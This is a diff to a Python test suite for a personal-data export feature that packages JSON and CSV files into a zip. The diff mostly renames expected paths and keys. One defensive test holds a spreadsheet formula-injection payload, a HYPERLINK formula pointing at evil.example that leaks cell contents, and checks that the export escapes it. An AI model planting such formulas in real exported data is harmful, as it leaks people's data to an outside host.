@@ -143,14 +143,15 @@ def test_access_produces_a_zip_with_json_and_csv_per_table(person):
     with request.result_file.open("rb") as handle:
         archive = zipfile.ZipFile(io.BytesIO(handle.read()))
     names = set(archive.namelist())
-    assert {"data.json", "profiles.Profile.csv", "profiles.Event.csv", "crm.Contact.csv"} <= names
+    expected = {"summary.html", "data.json", "profile/profiles.csv", "activity/events.csv"}
+    assert expected | {"customer/contacts.csv"} <= names
     data = json.loads(archive.read("data.json"))["data"]
-    assert data["profiles.Profile"][0]["traits"]["lastName"] == "Oosterhuis"
-    assert {row["value"] for row in data["profiles.Identity"]} >= {"marit@example.org"}
-    assert data["consent.ConsentRecord"][0]["status"] == "granted"
-    assert data["crm.Contact"][0]["email"] == "marit@example.org"
-    assert "Order Completed" in archive.read("profiles.Event.csv").decode()
-    assert "admin.LogEntry" not in data  # the staff's log is not the person's data
+    assert data["profile"]["profiles"][0]["traits"]["lastName"] == "Oosterhuis"
+    assert {row["value"] for row in data["profile"]["identities"]} >= {"marit@example.org"}
+    assert data["consent"]["consent-records"][0]["status"] == "granted"
+    assert data["customer"]["contacts"][0]["email"] == "marit@example.org"
+    assert "Order Completed" in archive.read("activity/events.csv").decode()
+    assert "log-entries" not in archive.read("data.json").decode()  # the staff's log
 
 
 def test_access_csv_neutralises_formulas_and_keeps_accents(person):
@@ -164,13 +165,13 @@ def test_access_csv_neutralises_formulas_and_keeps_accents(person):
     with request.result_file.open("rb") as handle:
         archive = zipfile.ZipFile(io.BytesIO(handle.read()))
 
-    data = archive.read("crm.Contact.csv")
+    data = archive.read("customer/contacts.csv")
     assert data.startswith(b"\xef\xbb\xbf")  # Excel reads the accents as UTF-8
     (row,) = csv.DictReader(io.StringIO(data.decode("utf-8-sig")))
     assert row["first_name"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
     assert row["last_name"] == "Oostérhuis"
     # the machine-readable copy keeps the value as it is stored
-    contact = json.loads(archive.read("data.json"))["data"]["crm.Contact"][0]
+    contact = json.loads(archive.read("data.json"))["data"]["customer"]["contacts"][0]
     assert contact["first_name"].startswith("=HYPERLINK")
 
 
